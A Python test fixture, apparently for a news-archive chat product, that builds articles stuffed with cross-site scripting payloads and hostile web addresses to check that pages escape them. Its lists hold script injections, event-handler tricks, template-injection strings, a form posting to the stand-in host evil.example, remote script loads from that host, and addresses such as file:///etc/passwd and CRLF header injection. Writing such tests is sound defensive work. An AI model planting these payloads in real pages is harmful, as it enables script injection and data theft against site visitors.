"""What somebody might write into an article, or into a question, to have a reader's browser run it or fetch it."""

import re
from datetime import UTC, datetime

from index.types import Article

EVIL = "https://evil.example"
BATCH = 10  # quotations of one answer: the most that can be asked for

PAYLOADS = (
    "<script>alert(1)</script>",
    f"<script src={EVIL}/x.js></script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "</script><script>alert(1)</script>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "<img src=x onerror=alert(1)>",
    f"<img src={EVIL}/pixel.png>",
    f'<img srcset="{EVIL}/a.png 2x" alt="a picture">',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    f"<svg><image href={EVIL}/i.svg /></svg>",
    f'<svg><use href="{EVIL}/u.svg#a"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>a title</noscript>",
    "<iframe src=javascript:alert(1)></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    f"<object data={EVIL}/o.swf></object>",
    "<embed src=data:text/html,<script>alert(1)</script>>",
    f"<link rel=stylesheet href={EVIL}/s.css>",
    f"<link rel=prefetch href={EVIL}/next>",
    f"<style>@import '{EVIL}/i.css';</style>",
    f"<style>*{{background:url({EVIL}/b.png)}}</style>",
    f"<p style='background:url({EVIL}/p.png)'>a paragraph</p>",
    f"<base href={EVIL}/>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/away'>",
    f"<form action={EVIL}/take id=asking><input name=question autofocus onfocus=alert(1)></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>more</summary></details>",
    "<dialog open><button onclick=alert(1)>close</button></dialog>",
    f"<video src={EVIL}/v.mp4 onerror=alert(1) autoplay></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>news</marquee>",
    "<a href=javascript:alert(1)>a link</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>a link</a>",
    f"<a href={EVIL} ping={EVIL}/ping target=_top>a link</a>",
    "<template shadowrootmode=open><script>alert(1)</script></template>",
    f'<groundwire-chat api="{EVIL}" open></groundwire-chat>',
    "<div id=conversation></div><div class=gw-answer>another answer</div>",
    "</mark></blockquote></li></ol></div><h1>Breaking news</h1><img src=x onerror=alert(1)>",
    "</title></textarea></style></select><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)><!--",
    "]]><script>alert(1)</script>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus='alert(1)' tabindex='0",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cimg src=x onerror=alert(1)\\u003e",
    '\\"};alert(1);//',
    "\u2028</script><script>alert(1)</script>\u2029",
    "javascript:alert(1)",
    f"![a picture]({EVIL}/markdown.png)",
    "[a link](javascript:alert(1))",
    "{{7*7}}{% for a in b %}{{constructor.constructor('alert(1)')()}}",
    "${alert(1)} #{alert(1)} <%= 7*7 %>",
    "\u202e<script>alert(1)</script>\u202c",
    "__proto__ constructor toString <b>bold</b>",
)

# Such as the archive takes: web addresses without blanks, quotation marks or angle brackets.
ADDRESSES = (
    "https://example.org/'onmouseover='alert(1)",
    "https://example.org/#javascript:alert(1)",
    "https://example.org/?next=javascript:alert(1)&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "https://example.org/#:~:text=somewhere,else&text=-",
    "https://user:password@example.org/",
    "https://example.org/{{7*7}}${7*7}`",
    "https://example.org/%00%0d%0aSet-Cookie:a=b",
    "HTTPS://EXAMPLE.ORG/);alert(1)//",
)
# Such as it refuses; pages must not make links of them all the same.
NO_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://example.org",
    " javascript:alert(1)",
    "java\nscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/1",
    "//evil.example/",
    '"><script>alert(1)</script>',
    "https://",
    "about:blank",
)


def hostile(number: int, payload: str) -> Article:
    """An article with the payload in everything that may hold it; the payload in its text is what answers."""
    return Article(
        id=f"hostile {number} {payload}"[:500],
        text=f"They met. It was {payload} they said.\nNobody <b>objected</b>.",
        title=payload,
        url=ADDRESSES[number % len(ADDRESSES)],
        source=payload,
        author=payload,
        section=payload,
        published=datetime(2025, 10, 17, 9, 30, tzinfo=UTC),
        language="en",
    )


ARTICLES = tuple(hostile(number, payload) for number, payload in enumerate(PAYLOADS))


def marked(article: Article) -> tuple[int, int]:
    """Where the payload stands in its text."""
    found = re.search(r"(?<=It was ).*(?= they said)", article.text, re.DOTALL)
    assert found
    return found.span()
